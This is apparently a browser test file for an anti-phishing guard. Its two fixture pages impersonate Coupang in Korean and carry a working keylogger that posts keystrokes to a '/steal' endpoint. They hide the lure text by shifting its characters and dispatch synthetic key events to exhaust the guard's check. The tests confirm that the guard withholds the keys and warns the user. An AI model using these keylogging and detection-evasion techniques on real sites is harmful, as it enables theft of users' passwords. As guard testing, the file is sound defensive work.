import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session } from '../harness';
import { notWarned, startReady } from '../page-helpers';
import { attackSettled, expectPageWarning, js, stolen, userTypes } from './kit';

/**
 * Attack 12 (issue #11): a spent second chance. The second chance at the moment of risk judges the page again
 * when the user starts typing into a secret field. A kit that knows it was checked once per field spends the
 * check while its page looks harmless — it focuses the password box itself and dispatches key events at it —
 * then puts its claim up (lure words in the brand's voice: below the page warning's bar) and lets the user
 * type. The user would lose: the keys, which reach the kit's own listeners unchecked.
 */
const settle = () => new Promise((r) => setTimeout(r, 1_000));

// One sentence in the brand's voice: a claim below the page warning's bar (a title or a logo would reach it).
const CLAIM = `<p>쿠팡 회원정보 유출 확인 전담 창구입니다. 본인 확인을 위해 비밀번호를 입력해 주세요.</p>`;

// The kit keeps its claim out of its script's words (each character shifted by one, put back at run time): since
// page34 the scorer reads the lines a script writes, and a claim readable there is caught at the kit's first,
// spending focus — this test is about the kit that hides it.
const shifted = (t: string) => Array.from(t, (c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');

const PAGE = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>회원 로그인</title>
<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
// the kit's keylogger counts only what the user types (its own synthetic keys carry nothing)
window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
</script></head><body>
<h1>동네 빵집 회원 로그인</h1>
<form><input id="pw" type="password" name="pw" style="width:320px;height:44px"></form>
<div id="later"></div>
<script>
var pw = document.getElementById('pw');
pw.addEventListener('keydown', function (e) { if (e.isTrusted) steal('field-key', e.key); });
window.addEventListener('load', function () {
  // spend the check while the page looks harmless: focus the box and dispatch keys and input at it
  pw.focus();
  ['keydown', 'keypress', 'keyup'].forEach(function (t) {
    pw.dispatchEvent(new KeyboardEvent(t, { key: 'a', bubbles: true, cancelable: true, composed: true }));
  });
  pw.dispatchEvent(new InputEvent('beforeinput', { data: 'a', inputType: 'insertText', bubbles: true, cancelable: true, composed: true }));
  pw.dispatchEvent(new FocusEvent('focusin', { bubbles: true, composed: true }));
  setTimeout(function () {
    // the guard may have held the first focus while its scorer came: wait until the box has it back
    (function claim(n) {
      if (document.activeElement !== pw && n < 40) return setTimeout(function () { claim(n + 1); }, 100);
      var t = ${js(shifted(CLAIM))}, u = '';
      for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
      document.getElementById('later').innerHTML = u;
      setTimeout(function () { steal('ready', document.activeElement === pw ? 'focused' : 'not-focused'); }, 300);
    })(0);
  }, 1500);
});
</script></body></html>`;

/**
 * The same kit, timed against the judgement itself: nothing on the page speaks of the brand or asks for a secret
 * until the user's own press on its box (a plain text box that turns into a password box and the claim that goes
 * up at that press), so the guard's scorer is not here yet when the box takes focus. The second
 * chance holds that focus and takes it from the box while the scorer comes; the keys the user goes on typing
 * meanwhile land on the page's body, where the kit's keylogger on `window` reads them, unless the guard holds
 * the typing itself until its judgement is in.
 */
const RACE = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>회원 로그인</title>
<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
</script></head><body>
<h1>동네 빵집 회원 로그인</h1>
<form><input id="pw" type="text" name="q" style="width:320px;height:44px"></form>
<div id="later"></div>
<script>
var pw = document.getElementById('pw');
var claimed = false;
// a plain box until the user's own press on it: then it takes secrets and the claim goes up, as it takes focus
pw.addEventListener('mousedown', function (e) {
  if (!e.isTrusted || claimed) return;
  claimed = true;
  pw.type = 'password';
  var t = ${js(shifted(CLAIM))}, u = '';
  for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
  document.getElementById('later').innerHTML = u;
});
steal('ready', 'yes');
</script></body></html>`;

/**
 * Each attempt on a host of its own (`spent-check-1.example.test`, then `-2` on a retry): the server's record of
 * stolen keys is shared between attempts, and a retry must judge its own page only.
 */
let attempts = 0;
const fresh = (host: string) => host.replace('.', `-${++attempts}.`);

forEachBrowser('hostile: a second chance spent in advance', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });

  test('12. the page spends the check, then claims the brand: the first key the user types is held and warned', async () => {
    const host = fresh('spent-check.example.test');
    ctx.server.page(host, '/login', PAGE);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    // the attack is in place on a page the guard did not warn about, with the box focused by the page itself
    expect(await notWarned(s, tab)).toBe(true);
    expect(stolen(ctx.server, host, 'ready').map((r) => r.path)).toEqual(['/steal?ready=focused']);
    // the user types (real key presses, into the box the page focused)
    await tab.keyboard('hunter2').catch(() => undefined);
    await settle();
    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
    expect(stolen(ctx.server, host, 'field-key').map((r) => r.path)).toEqual([]);
    const w = await expectPageWarning(s, tab);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });

  test('12b. the keys typed while the guard judges the page reach nothing of the page, and the page is warned', async () => {
    const host = fresh('judged-late.example.test');
    ctx.server.page(host, '/login', RACE);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    expect(await notWarned(s, tab)).toBe(true);
    // the user presses the box and types at once
    await userTypes(tab, '#pw', 'hunter2');
    await settle();
    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
    const w = await expectPageWarning(s, tab);
    expect(w.kind).toBe('suspicious-page');
    await tab.close();
  });
});
